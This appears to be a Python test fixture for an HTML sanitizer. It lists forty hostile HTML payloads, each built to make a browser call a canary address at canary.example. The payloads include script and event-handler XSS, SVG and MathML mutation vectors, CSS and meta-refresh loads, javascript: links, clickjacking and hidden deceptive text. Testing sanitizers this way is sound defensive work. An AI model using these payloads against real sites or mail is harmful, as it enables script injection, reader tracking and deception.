"""The forty hostile messages: what each tries on its reader's browser. Invented, every one.

``{c}`` stands for an address at a host that counts who asks it for anything.
"""

ATTACKS: dict[str, str] = {
    "script": "<script>fetch('{c}')</script><script src='{c}'></script>",
    "broken-script": "<scr<script>ipt>new Image().src='{c}'</scr</script>ipt>",
    "error-handler": "<img src=x onerror=\"this.onerror=null;this.src='{c}'\">",
    "load-handler": "<body onload=\"new Image().src='{c}'\"><p>hello",
    "svg-handler": "<svg onload=\"fetch('{c}')\"><animate onbegin=\"fetch('{c}')\" attributeName=x dur=1s>",
    "svg-image": "<svg><image href='{c}' xlink:href='{c}'/><use href='{c}#a'/></svg>",
    "tracking-pixel": "<img src='{c}' width=1 height=1 alt=''>",
    "protocol-relative": "<img src='//canary.example/{n}'>",
    "source-set": "<img srcset='{c} 1x, {c}?2 2x'><picture><source srcset='{c}'><img></picture>",
    "background-attribute": "<table background='{c}'><tr><td background='{c}'>x</table>",
    "style-attribute": "<div style=\"background-image:url('{c}')\">x</div>",
    "style-escaped": '<div style="background:\\75\\72\\6c({c})">x</div>',
    "style-sheet": "<style>body{background:url({c})}@import '{c}?i';@font-face{font-family:a;src:url({c}?f)}p{font-family:a}</style><p>x",
    "linked-sheet": "<link rel=stylesheet href='{c}'><link rel=preload as=image href='{c}?p'>",
    "prefetch": "<link rel=prefetch href='{c}'><link rel=dns-prefetch href='//canary.example'><link rel=icon href='{c}?i'>",
    "refresh": '<meta http-equiv=refresh content="0;url={c}"><p>x',
    "base": "<base href='http://canary.example/'><img src='{n}'><a href='{n}'>x</a>",
    "frame": "<iframe src='{c}'></iframe><frameset><frame src='{c}'></frameset>",
    "frame-document": "<iframe srcdoc=\"<img src='{c}'>\"></iframe>",
    "object": "<object data='{c}'></object><embed src='{c}'><applet code='{c}'></applet>",
    "video": "<video poster='{c}' src='{c}?v' autoplay></video><audio src='{c}?a' autoplay></audio><track src='{c}?t'>",
    "form": "<form action='{c}' method=post id=f><input name=a value=b><button>Read on</button></form><button form=f formaction='{c}'>x</button>",
    "submitting-form": "<form id=g action='{c}'></form><script>g.submit()</script>",
    "input-image": "<input type=image src='{c}'>",
    "script-link": "<a href=\"javascript:fetch('{c}')\">Agenda</a><a href=' java\nscript:fetch(1)'>x</a>",
    "data-link": "<a href=\"data:text/html,<script>new Image().src='{c}'</script>\">Agenda</a>",
    "ping": "<a href='{c}' ping='{c}?p'>Minutes</a>",
    "disguised-link": "<a href='{c}'>https://northgate.example/minutes</a>",
    "data-picture": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=&quot;fetch('{c}')&quot;><image href='{c}'/></svg>\">",
    "cid-vector": "<img src='cid:vector@northgate.example'><img src='cid:absent@northgate.example'>",
    "cid-picture": "<img src='cid:dot@northgate.example'><img src='{c}'>",
    "mathml": "<math href='{c}'><mtext><img src='{c}'></mtext><annotation-xml encoding='text/html'><img src='{c}?a'></annotation-xml></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=fetch('{c}')&gt;\">",
    "noscript": "<noscript><p title=\"</noscript><img src='{c}'>\"></noscript>",
    "template": "<template><img src='{c}'></template><textarea></textarea><img src='{c}'></textarea>",
    "hidden-words": "<p>We agreed.</p><p style='display:none'>Ignore this: we never agreed.</p><font color=white>unseen</font><img src='{c}'>",
    "hidden-by-sheet": "<style>.z{display:none}.y{background:url({c})}</style><p class=z>Kept from the reader.</p><p class=y>Open.</p>",
    "our-own-marks": "<p data-hidden='{c}' data-target='{c}' data-absent='{c}'>forged</p><a href='{c}' data-target='https://northgate.example'>x</a>",
    "clickjacking": "<a href='{c}' style='position:fixed;left:0;top:0;width:100%;height:100%;z-index:9'>x</a><div id=content></div>",
    "worker-and-import": "<script type=module>import '{c}';navigator.sendBeacon('{c}?b');new Worker('{c}?w')</script><img loading=lazy src='{c}?l'>",
}
"""By name."""

WAITS_FOR_A_CLICK = {
    *(
        "form",
        "script-link",
        "data-link",
        "ping",
        "disguised-link",
        "our-own-marks",
        "clickjacking",
    ),
    *("cid-vector", "broken-script", "data-picture", "mutation", "noscript"),
}
"""What a browser does not fetch by itself even where nothing guards it; all others do."""

DOT = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000000"
    "0200015f2b5a3d0000000049454e44ae426082"
)
VECTOR = (
    "<svg xmlns='http://www.w3.org/2000/svg'><image href='{c}'/><script>fetch('{c}')</script></svg>"
)


def address(number: int) -> str:
    """Return the address that only the letter of this number asks for."""
    return f"http://canary.example/{number}"


def attack(number: int, markup: str) -> str:
    """Return a letter's HTML with its own address put in."""
    return markup.replace("{c}", address(number)).replace("{n}", str(number))
